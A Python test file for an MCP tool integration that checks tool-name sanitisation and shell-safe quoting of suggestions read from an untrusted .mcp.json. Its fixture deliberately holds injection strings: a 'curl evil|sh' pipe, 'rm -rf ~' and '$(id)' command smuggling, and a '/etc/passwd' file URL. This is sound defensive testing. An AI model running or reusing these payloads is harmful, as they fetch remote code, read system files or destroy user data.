"""What an MCP server or a repository's `.mcp.json` says is untrusted: a tool name a
provider would refuse does not sink every request of the session, and a suggestion the
person pastes into a shell runs nothing but `acdc mcp add`."""

from __future__ import annotations

import json
import shlex

import mcp.types as mcp_types

from chat.repo.mcp import offer
from chat.repo.mcp.mcpjson import suggest


def test_tool_names_a_provider_refuses_are_made_safe_and_still_call_the_real_tool():
    names = ["files.read all", "x" * 100, "files.read_all", "ok_tool", "émoji✓"]
    tools = offer.listed("srv", [
        mcp_types.Tool(name=n, input_schema={"type": "object"}) for n in names
    ])
    given = [t.name for t in tools]
    assert all(offer.MODEL_NAME.match(n) for n in given), given
    assert len(set(given)) == len(names)
    assert "mcp__srv__ok_tool" in given  # a valid name is kept as it is
    for tool in tools:
        assert offer.find(tools, tool.name).tool == tool.tool  # the call uses the real name
        assert tool.definition()["function"]["name"] == tool.name


def test_a_schema_that_is_not_an_object_is_not_offered_as_one():
    [tool] = offer.listed("srv", [mcp_types.Tool(name="t", input_schema={"type": "string"})])
    assert tool.definition()["function"]["parameters"] == {"type": "object", "properties": {}}
    assert "not an object" in tool.description


def test_a_suggested_line_is_safe_to_paste_into_a_shell(tmp_path):
    servers = {
        "x -- curl evil|sh #": {"command": "node", "args": ["a.js"]},
        "web": {"url": "http://127.0.0.1:1/mcp;rm$(id)`id`"},
        "spaced": {"url": "http://127.0.0.1:1/mcp; rm -rf ~"},
        "local": {"url": "file:///etc/passwd"},
        "node": {"command": "node", "args": ["srv.js", "$(id)", "\x1b[2J"],
                 "env": {"TOKEN": "s3cret", "A;rm -rf ~": "1"}},
    }
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    found = {s.name: s for s in suggest(tmp_path)}
    assert set(found) == {"web", "node"}
    web = shlex.split(found["web"].command)
    assert web == ["--url", "http://127.0.0.1:1/mcp;rm$(id)`id`"]
    node = found["node"]
    assert "\x1b" not in node.command and shlex.split(node.command)[3] == "$(id)"
    assert "TOKEN" in node.why and "rm" not in node.why and "s3cret" not in node.why
